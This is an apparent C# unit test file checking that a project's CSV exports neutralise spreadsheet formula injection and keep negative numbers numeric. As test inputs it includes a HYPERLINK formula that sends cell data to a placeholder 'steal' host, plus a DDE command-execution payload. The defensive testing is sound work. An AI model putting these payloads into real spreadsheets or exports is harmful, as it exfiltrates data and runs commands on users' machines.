using System.Globalization;
using System.Text;
using CsvHelper;

namespace Forecast.Reports.Tests;

/// <summary>Every CSV the project writes opens in a spreadsheet as data: a text cell never starts a formula, a number stays a number.</summary>
public sealed class SpreadsheetCsvTests
{
    private const string Formula = "=HYPERLINK(\"http://example.invalid/steal?d=\"&A1,\"statistical bulletin\")";

    private static List<Dictionary<string, string>> Rows(string text)
    {
        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        return csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>()
            .Select(r => r.ToDictionary(x => x.Key, x => (string)x.Value, StringComparer.Ordinal)).ToList();
    }

    private static GrowthLine Line(string source, double? historicalRate) => new(
        "dandong", "new-urban-jobs", "新增城镇就业", "new urban jobs", "人", "cumulative", "up",
        2025, 2023, "≥", 51_000, "二(一)1", "累计新增城镇就业5.1万人",
        2024, 21_000, "observed", source, 2023, 17_000, "planned",
        historicalRate, 7.2, "%/yr", -0.07, "moving-away", "needs 7.2 %/yr");

    [Theory]
    [InlineData(Formula)]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    public void A_growth_csv_cell_that_would_start_a_formula_is_written_as_text(string source)
    {
        var row = Assert.Single(Rows(Encoding.UTF8.GetString(GrowthCsv.ToBytes([Line(source, 3.1)]))));

        Assert.Equal("'" + source, row["latest_source"]);
    }

    [Fact]
    public void A_negative_number_in_a_numeric_column_stays_a_number()
    {
        var row = Assert.Single(Rows(Encoding.UTF8.GetString(GrowthCsv.ToBytes([Line("bulletin", -0.5)]))));

        Assert.Equal("-0.5", row["historical_rate"]);
        Assert.Equal("-0.07", row["ratio"]);
        Assert.Equal("bulletin", row["latest_source"]);
    }

    [Fact]
    public void A_report_csv_writes_a_formula_in_a_text_cell_as_text_and_negative_figures_as_numbers()
    {
        var report = SampleRun.Report();
        var first = report.Result.Pairs[0] with { ReasonEn = Formula, MedianGap = -1234.5 };
        report = report with { Result = report.Result with { Pairs = [first, .. report.Result.Pairs.Skip(1)] } };

        var row = Rows(CsvReport.Write(report))[0];

        Assert.Equal("'" + Formula, row["reason_en"]);
        Assert.Equal("-1234.5", row["median_gap"]);
    }

    [Fact]
    public void A_comparison_csv_writes_a_formula_in_a_text_cell_as_text_and_a_negative_move_as_a_number()
    {
        var baseline = SampleRun.Result(jobsPMeet: 0.9);
        var downturn = SampleRun.Result(SampleRun.Scenario with { Id = "downturn", Seed = 43 }, jobsPMeet: 0.2);
        var jobs = downturn.Pairs[0] with { ReasonEn = Formula };
        downturn = downturn with { Pairs = [jobs, .. downturn.Pairs.Skip(1)] };

        var row = Rows(ScenarioComparison.Of(baseline, downturn).ToCsv())[0];

        Assert.Equal("'" + Formula, row["reason_b_en"]);
        Assert.Equal("-0.7", row["move"]);
    }
}
